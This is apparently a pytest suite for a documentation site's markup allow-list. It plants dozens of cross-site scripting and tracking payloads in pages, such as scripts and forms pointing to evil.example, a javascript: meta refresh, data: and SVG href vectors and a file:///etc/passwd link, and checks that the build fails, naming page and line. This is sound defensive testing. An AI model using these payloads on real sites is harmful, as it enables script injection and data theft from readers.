"""Pages hold only what the allow-list names (feeling_safe/pages/allowed_markup.py), read as a
browser reads them: every planted element, attribute, script type and address below fails the
build, naming its page and line; front matter is text wherever it is written; a file under
docs/ that could run or style is served only when the list names it."""
from __future__ import annotations

import re

import pytest

from feeling_safe.pages.allowed_markup import DOCS_CODE, Rules, scan
from sitebuild import fixture_config, mkdocs_build, write_page

EVIL = "https://evil.example"
# Each a page of its own in one build. Every one of these was built without complaint before
# the allow-list (the deny-list looked only for inline scripts, handlers, javascript: and styles).
PLANTED = {
    # Script types a browser runs, or that change what runs.
    "ecmascript type": "<script type=\"text/ecmascript\">alert(1)</script>",
    "jscript type": "<script type=\"text/jscript\">alert(1)</script>",
    "x-javascript type": "<script type=\"application/x-javascript\">alert(1)</script>",
    "javascript1.5 type": "<script type=\"text/javascript1.5\">alert(1)</script>",
    "livescript type": "<script type=\"text/livescript\">alert(1)</script>",
    "importmap": '<script type="importmap">{"imports": {"a": "/evil.js"}}</script>',
    "speculation rules": f'<script type="speculationrules">{{"prerender": [{{"urls": ["{EVIL}/"]}}]}}</script>',
    "module with a listed src": '<script type="module" src="/assets/javascripts/copy-text.js"></script>',
    # Script sources that are not the site's listed code.
    "data: script source": '<script src="data:text/javascript,alert(1)"></script>',
    "another host's script": f'<script src="{EVIL}/x.js"></script>',
    "scheme-relative script": '<script src="//evil.example/x.js"></script>',
    "backslash script host": '<script src="\\\\evil.example\\x.js"></script>',
    "unlisted script on the site": '<script src="/assets/javascripts/unlisted.js"></script>',
    # Named like a page's tools file (publishing/page_scripts.py), but not one this build wrote.
    "a tools file the build did not write": '<script src="/assets/javascripts/page-tools.0123456789.js"></script>',
    "dot-dot out of the listed folder": '<script src="/assets/javascripts/../../evil.js"></script>',
    "encoded dot-dot": '<script src="/assets/javascripts/%2e%2e/%2e%2e/evil.js"></script>',
    "another host's sheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "data: sheet": '<link rel="stylesheet" href="data:text/css,body%7Bdisplay:none%7D">',
    "modulepreload": f'<link rel="modulepreload" href="{EVIL}/x.js">',
    "prefetch": f'<link rel="prefetch" href="{EVIL}/">',
    "dns-prefetch": '<link rel="dns-prefetch" href="//evil.example">',
    "preconnect": f'<link rel="preconnect" href="{EVIL}">',
    "another host's icon": f'<link rel="icon" href="{EVIL}/f.ico">',
    # Frames, objects and documents inside pages.
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" title="x"></iframe>',
    "iframe of data:": '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E" title="x"></iframe>',
    "iframe of another host": f'<iframe src="{EVIL}/" title="x"></iframe>',
    "iframe of a site page that is no embed view": '<iframe src="../other/" title="x"></iframe>',
    "object data:": '<object data="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></object>',
    "object of another host": f'<object data="{EVIL}/x.swf"></object>',
    "embed element": f'<embed src="{EVIL}/x.swf">',
    "portal": f'<portal src="{EVIL}/"></portal>',
    "applet": '<applet code="x.class"></applet>',
    # What changes where the page goes, or what it sends.
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "meta refresh to javascript": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta set-cookie": '<meta http-equiv="set-cookie" content="a=b">',
    "meta referrer": '<meta name="referrer" content="unsafe-url">',
    "meta refresh for readers without scripts": f'<noscript><meta http-equiv="refresh" content="0;url={EVIL}/"></noscript>',
    "base element": f'<base href="{EVIL}/">',
    "form to another host": f'<form action="{EVIL}/collect"><input name="q"></form>',
    "form method": '<form method="post"><input name="q"></form>',
    "formaction": f'<button formaction="{EVIL}/">Send</button>',
    "input image": f'<input type="image" src="{EVIL}/x.png" alt="x">',
    "isindex": f'<isindex action="{EVIL}/">',
    "link ping": f'<a href="https://example.org/" ping="{EVIL}/">Tap</a>',
    "link opener": '<a href="https://example.org/" rel="opener" target="_blank">Tap</a>',
    "target blank on a page": '<a href="https://example.org/" target="_blank">Tap</a>',
    "download": '<a href="/x" download>Tap</a>',
    "referrerpolicy": f'<a href="{EVIL}/" referrerpolicy="unsafe-url">Tap</a>',
    # Addresses that run or show a document of their own.
    "data: link": '<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">Tap</a>',
    "upper-case data: link": '<a href="DATA:text/html,x">Tap</a>',
    "spaced data: link": '<a href="  data:text/html,x">Tap</a>',
    "entity data: link": '<a href="d&#x61;ta:text/html,x">Tap</a>',
    "markdown data: link": "[Tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "blob: link": '<a href="blob:https://example.org/0000">Tap</a>',
    "file: link": '<a href="file:///etc/passwd">Tap</a>',
    "area data:": '<map name="m"><area shape="rect" coords="0,0,1,1" href="data:text/html,x" alt="x"></map>',
    "MathML href": '<math><mi href="data:text/html,x">x</mi></math>',
    # SVG that animates links, loads or holds documents.
    "svg animate href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg set href": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg animate xlink:href": '<svg><a><animate attributeName="xlink:href" values="data:text/html,x"/></a></svg>',
    "svg data: link": '<svg><a href="data:text/html,x"><text>x</text></a></svg>',
    "svg foreignObject": '<svg><foreignObject><iframe srcdoc="x" title="x"></iframe></foreignObject></svg>',
    "svg image of another host": f'<svg><image href="{EVIL}/t.png"/></svg>',
    "svg use of another host": f'<svg><use href="{EVIL}/s.svg#x"/></svg>',
    "svg use of data:": '<svg><use href="data:image/svg+xml,%3Csvg%20id=%22x%22/%3E#x"/></svg>',
    # Things that load from another host (a reader's visit told to a stranger).
    "tracking image": f'<img src="{EVIL}/t.png" alt="">',
    "image srcset": f'<img src="/x.png" srcset="{EVIL}/t.png 2x" alt="">',
    "image data:": '<img src="data:image/svg+xml,%3Csvg/%3E" alt="">',
    "table background": f'<table background="{EVIL}/t.png"><tr><td>x</td></tr></table>',
    "video": f'<video src="{EVIL}/v.mp4" autoplay></video>',
    "audio source": f'<audio><source src="{EVIL}/a.mp3"></audio>',
    "video poster": f'<video poster="{EVIL}/p.png"></video>',
    "track": f'<video><track src="{EVIL}/t.vtt"></video>',
    # Inline CSS: only the head's one <style>, which the template writes and the build fills.
    "style element in the body": "<style>body{display:none}</style>",
    "empty style element in the body": "<style></style>",
    "style element with a media query": '<style media="print">body{display:none}</style>',
    "style element for readers without scripts": "<noscript><style>body{display:none}</style></noscript>",
    # Elements and attributes no page needs.
    "template element": "<template><p>x</p></template>",
    "custom element": "<x-widget>x</x-widget>",
    "dialog": "<dialog open>x</dialog>",
    "marquee": "<marquee>x</marquee>",
    "contenteditable": '<p contenteditable="true">x</p>',
    "is attribute": '<p is="x-p">x</p>',
    "autofocus": '<input type="text" autofocus>',
    "popover target": '<button popovertarget="x">x</button>',
}


@pytest.fixture(scope="module")
def planted_build(tmp_path_factory):
    """One build of a page per planted case: (its stderr, each case's page and payload lines)."""
    docs = tmp_path_factory.mktemp("planted") / "docs"
    write_page(docs, "index.md", "# Home\n\nNothing odd here.")
    where = {}
    for number, (case, markup) in enumerate(PLANTED.items()):
        path = write_page(docs, f"p{number}.md", f"# Page {number}\n\nFirst paragraph.\n\n{markup}\n\nLast paragraph.")
        first = path.read_text(encoding="utf-8").splitlines().index(markup.splitlines()[0]) + 1
        where[case] = (f"docs/p{number}.md", range(first, first + len(markup.splitlines())))
    result = mkdocs_build(tmp_path_factory.mktemp("planted-site") / "site", fixture_config(docs))
    return result, where


def test_the_planted_build_fails_naming_the_list(planted_build):
    result, _ = planted_build
    assert result.returncode != 0
    assert "allowed_markup.py" in result.stderr and "Content-Security-Policy" in result.stderr
    assert "docs/index.md" not in result.stderr  # a clean page is not named


@pytest.mark.parametrize("case", list(PLANTED))
def test_planted_markup_fails_the_build_naming_page_and_line(planted_build, case):
    result, where = planted_build
    label, lines = where[case]
    named = [line.strip() for line in result.stderr.splitlines() if line.strip().startswith(f"{label}:")]
    assert named, f"{case}: not named\n{result.stderr[-2000:]}"
    numbers = {int(match.group(1)) for line in named if (match := re.match(rf"{re.escape(label)}:(\d+):", line))}
    assert numbers and numbers <= set(lines), (case, named)


# --- files under docs/ -----------------------------------------------------------------------------

UNLISTED_FILES = {"evil.js": "alert(1)", "assets/javascripts/extra.js": "alert(1)", "module.mjs": "alert(1)",
                  "page.html": "<script>alert(1)</script>", "old.htm": "<p>x</p>", "drawing.svg": "<svg/>",
                  "feed.xml": "<x/>", "style.xsl": "<x/>", "look.css": "body{}", "app.wasm": "x",
                  "doc.xhtml": "<x/>", "data.json": "{}"}


def test_a_file_under_docs_that_could_run_is_refused_unless_listed(docs_tree, tmp_path):
    write_page(docs_tree, "index.md", "# Home\n\nText.")
    for name, text in UNLISTED_FILES.items():
        (docs_tree / name).parent.mkdir(parents=True, exist_ok=True)
        (docs_tree / name).write_text(text, encoding="utf-8")
    (docs_tree / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    result = mkdocs_build(tmp_path / "site", fixture_config(docs_tree))
    assert result.returncode != 0
    refused = {line.strip().split(":")[0] for line in result.stderr.splitlines() if "DOCS_CODE" in line}
    assert refused == {f"docs/{name}" for name in UNLISTED_FILES}, result.stderr[-2000:]
    assert not (tmp_path / "site").exists()


def test_every_listed_file_is_in_docs_and_every_code_file_in_docs_is_listed():
    from sitebuild import ROOT
    docs = ROOT / "docs"
    code = {path.relative_to(docs).as_posix() for path in docs.rglob("*")
            if path.is_file() and path.suffix not in (".md", ".png")}
    assert code == DOCS_CODE


@pytest.mark.parametrize("name", ["unlisted", "lean"])  # lean.js is the theme's, not a page tool under docs/
def test_a_page_script_the_build_does_not_have_is_refused(docs_tree, tmp_path, name):
    write_page(docs_tree, "index.md", "# Home\n\nText.")
    write_page(docs_tree, "tool.md", "# Tool\n\nText.", scripts=[name])
    result = mkdocs_build(tmp_path / "site", fixture_config(docs_tree))
    assert result.returncode != 0
    assert re.search(rf"docs/tool\.md: scripts: no assets/javascripts/{name}\.js", result.stderr), result.stderr


# --- front matter and planted text: text wherever it is written --------------------------------------

HOSTILE_TITLE = 'Tom & Jerry </title><script>window.pwned = "title"</script>'
HOSTILE_DESCRIPTION = 'A description long enough for the check "><meta http-equiv="refresh" content="0"> & more'
# What a page may say about code without holding any: each is text, or inert, as a browser reads it.
PLANTED_TEXT = """
Code in a span: `<script>window.pwned = "span"</script>`.

```html
<img src="x" onerror="window.pwned = 'block'">
```

Escaped: &lt;script&gt;window.pwned = "entity"&lt;/script&gt;

<p title="<script>window.pwned = 'attribute'</script>">An attribute holding markup.</p>

<p title='"><img src=x onerror="window.pwned = 1">'>Quotes inside an attribute.</p>

<!-- <script>window.pwned = "comment"</script> -->

<textarea name="t"><img src=x onerror="window.pwned = 'textarea'"></textarea>

[A link whose text looks like code](https://example.org/ "javascript:window.pwned = 1")
"""


@pytest.fixture(scope="module")
def planted_text_site(tmp_path_factory):
    """A site whose pages carry code only as text: it builds."""
    docs = tmp_path_factory.mktemp("front-matter") / "docs"
    write_page(docs, "index.md", "# Home\n\nText.")
    write_page(docs, "other.md", f"# Other\n\n{PLANTED_TEXT}", title=HOSTILE_TITLE,
               description=HOSTILE_DESCRIPTION, kind="tool")
    site = tmp_path_factory.mktemp("front-matter-site") / "site"
    result = mkdocs_build(site, fixture_config(docs))
    assert result.returncode == 0, result.stderr[-2000:]
    return site


@pytest.mark.parametrize("page", ["index.html", "other/index.html", "embed/other/index.html"])
def test_front_matter_is_text_wherever_a_page_writes_it(planted_text_site, page):
    """The title and description come back as the same characters (in <title>, meta tags,
    the nav, the footer and Next step), and add no element to the page."""
    from feeling_safe.pages import html
    path = planted_text_site / page
    if not path.exists():
        pytest.fail(f"{page} was not built")
    tree = html.parse(path.read_text(encoding="utf-8"))
    assert not [node for node in tree.css("script") if "pwned" in node.text() and not node.attributes.get("type")]
    assert not tree.css("meta[http-equiv]")
    texts = [node.text() for node in tree.css("title, a, .md-ellipsis, .fst-next-step")]
    assert any(HOSTILE_TITLE in text for text in texts), texts
    if page != "index.html":
        assert HOSTILE_DESCRIPTION in [node.attributes.get("content") for node in tree.css("meta")]


def test_a_planted_site_served_without_headers_runs_nothing(planted_text_site, browser):
    """Served as a host with no headers serves it (no Content-Security-Policy: GitHub Pages),
    no planted code runs, no page moves the reader on, and nothing is asked of another host."""
    from browser import serve
    with serve(planted_text_site) as base:
        context = browser.new_context()
        outside, dialogs = [], []
        context.route(re.compile(r"^(?!https?://127\.0\.0\.1[:/]).*"),
                      lambda route: (outside.append(route.request.url), route.abort()))
        tab = context.new_page()
        tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in ("", "other/", "embed/other/", "404.html"):
            tab.goto(base + path)
            tab.wait_for_load_state("load")
            tab.evaluate("""() => document.querySelectorAll('*').forEach(element => {
                for (const type of ['mouseover', 'focus', 'animationstart']) element.dispatchEvent(new Event(type));
            })""")
            tab.wait_for_timeout(200)
            assert tab.url == base + path, f"{path} moved the reader to {tab.url}"
            assert tab.evaluate("window.pwned") is None, path
        context.close()
    assert dialogs == [] and outside == [], (dialogs, outside)


# --- the reader, unit by unit -------------------------------------------------------------------------

RULES = Rules((), code=frozenset({"assets/javascripts/copy-text.js", "assets/stylesheets/site.css"}))


@pytest.mark.parametrize("address, dest, prefix, ok", [
    ("../assets/javascripts/copy-text.js", "what-it-is/index.html", "/", True),
    ("/assets/javascripts/copy-text.js", "what-it-is/index.html", "/", True),
    ("/guide/assets/javascripts/copy-text.js", "what-it-is/index.html", "/guide/", True),
    ("/assets/javascripts/copy-text.js", "what-it-is/index.html", "/guide/", False),   # another site's
    ("../../assets/javascripts/copy-text.js", "what-it-is/index.html", "/guide/", False),  # above the folder
    ("../assets/javascripts/copy-text.js?v=1#x", "what-it-is/index.html", "/", True),
    ("..\\assets\\javascripts\\copy-text.js", "what-it-is/index.html", "/", True),
    ("\\\\evil.example/assets/javascripts/copy-text.js", "index.html", "/", False),
    ("/\\evil.example/assets/javascripts/copy-text.js", "index.html", "/", False),
    ("assets/javascripts/copy-text.js", "index.html", "/", True),
    ("assets/javascripts/x/../copy-text.js", "index.html", "/", True),
    ("assets/javascripts/%63opy-text.js", "index.html", "/", True),
    ("https://feeling-safe.example/assets/javascripts/copy-text.js", "index.html", "/", False),
])
def test_a_script_address_is_resolved_as_a_browser_resolves_it(address, dest, prefix, ok):
    rules = Rules((), code=RULES.code, prefix=prefix)
    found = scan(f'<script src="{address}"></script>', rules, dest=dest)
    assert (found.problems == []) is ok, found.problems


def test_a_verdict_kept_for_the_build_still_depends_on_the_folder_and_the_template():
    """Verdicts are kept per build (`Rules.verdicts`): the same element read again from another
    folder (its address resolves elsewhere) or in another template gets its own."""
    rules = Rules((), prefix="/guide/")
    image, link = '<img src="../../x.png" alt="">', '<a href="https://example.org/" target="_top">x</a>'
    for _ in range(2):   # the second round reads every verdict from what the first kept
        assert scan(image, rules, dest="a/b/index.html").problems == []
        assert scan(image, rules, dest="a/index.html").problems != []   # above the site's folder
        assert scan(link, rules, template="embed", dest="embed/x/index.html").problems == []
        assert scan(link, rules, template="page", dest="x/index.html").problems != []
    assert rules.verdicts, "the verdicts are kept"


@pytest.mark.parametrize("template, markup, ok", [
    ("page", '<form name="search"><input type="text" name="query"></form>', True),
    ("embed", '<form name="search"></form>', False),
    ("page", '<iframe src="../embed/what-it-is/" title="x" loading="lazy"></iframe>', True),
    ("embed", '<iframe src="../what-it-is/" title="x"></iframe>', False),
    ("embed", '<a href="https://example.org/" target="_top">x</a>', True),
    ("page", '<a href="https://example.org/" target="_top">x</a>', False),
    ("page", '<a href="tel:+15555550100">x</a><a href="sms:+15555550100">x</a><a href="mailto:a@b.example">x</a>', True),
    ("page", '<script type="application/ld+json">{"a": 1}</script>', True),
    ("page", '<link rel="stylesheet" href="../assets/stylesheets/site.css">', True),
    ("page", '<link rel="canonical" href="https://feeling-safe.example/x/">', True),
])
def test_what_each_template_may_hold(template, markup, ok):
    found = scan(f"<!doctype html><title>t</title><p>x</p>{markup}", RULES, template=template,
                 dest="embed/x/index.html" if template == "embed" else "x/index.html")
    assert (found.problems == []) is ok, found.problems


# --- inline CSS: the head's one <style>, with the build's text ----------------------------------------

CRITICAL = "a{color:red}"


def _head(styles: str, body: str = "<p>x</p>") -> str:
    return f"<!doctype html><html><head><title>t</title>{styles}</head><body>{body}</body></html>"


@pytest.mark.parametrize("page, style, problem", [
    (_head("<style></style>"), "", None),                         # as the template writes it
    (_head(f"<style>{CRITICAL}</style>"), CRITICAL, None),         # as the build fills it
    (_head(f"<style>{CRITICAL}</style>"), "", "text the build did not put there"),
    (_head("<style>a{color:blue}</style>"), CRITICAL, "text the build did not put there"),
    (_head(f"<style>{CRITICAL}</style><style>{CRITICAL}</style>"), CRITICAL, "a second <style>"),
    (_head(f'<style media="screen">{CRITICAL}</style>'), CRITICAL, "media= attribute"),
    (_head(f"<style>{CRITICAL}</style>", f"<style>{CRITICAL}</style>"), CRITICAL, "outside the head"),
    (_head("", f"<p>x</p><style>{CRITICAL}</style>"), CRITICAL, "outside the head"),
    (_head(f"<noscript><style>{CRITICAL}</style></noscript>"), CRITICAL, "outside the head"),
    (_head(f"<svg><style>{CRITICAL}</style></svg>"), CRITICAL, "outside the head"),
])
def test_only_the_head_s_one_style_with_the_build_s_text_is_allowed(page, style, problem):
    found = scan(page, Rules((), style=style))
    if problem is None:
        assert found.problems == []
    else:
        assert any(problem in text for _line, text in found.problems), found.problems


OWN = '<style data-fs-own="assets/stylesheets/site.css"></style>'


@pytest.mark.parametrize("page, style, own, problem", [
    (_head("<style></style>" + OWN), "", frozenset(), None),                          # as home.html writes it
    (_head(f"<style>{CRITICAL}</style><style>p{{}}</style>"), CRITICAL, frozenset({"p{}"}), None),  # as filled
    (_head(f"<style>{CRITICAL}</style><style>p{{}}</style>"), CRITICAL, frozenset(), "a second <style>"),
    (_head("<style></style>" + OWN.replace("></", ">p{}</")), "", frozenset({"p{}"}), "text the build did not"),
    (_head("<style></style>" + OWN.replace("site.css", "other.css")), "", frozenset(), "not a stylesheet on the list"),
    (_head("<style></style>" + OWN.replace("site.css", "../x.js")), "", frozenset(), "not a stylesheet on the list"),
    (_head("<style></style>" + OWN.replace("<style ", '<style media="print" ')), "", frozenset(), "media= attribute"),
    (_head("<style></style>", OWN), "", frozenset(), "outside the head"),
])
def test_a_template_s_own_sheet_may_have_a_style_of_its_own(page, style, own, problem):
    found = scan(page, Rules((), code=RULES.code, style=style, own=own))
    if problem is None:
        assert found.problems == []
    else:
        assert any(problem in text for _line, text in found.problems), found.problems


def test_a_planted_style_is_named_by_its_line():
    page = _head("<style></style>", "<p>one</p>\n<p>two</p>\n<style>p{display:none}</style>")
    [(line, problem)] = scan(page, Rules(())).problems
    assert line == 3 and "outside the head" in problem
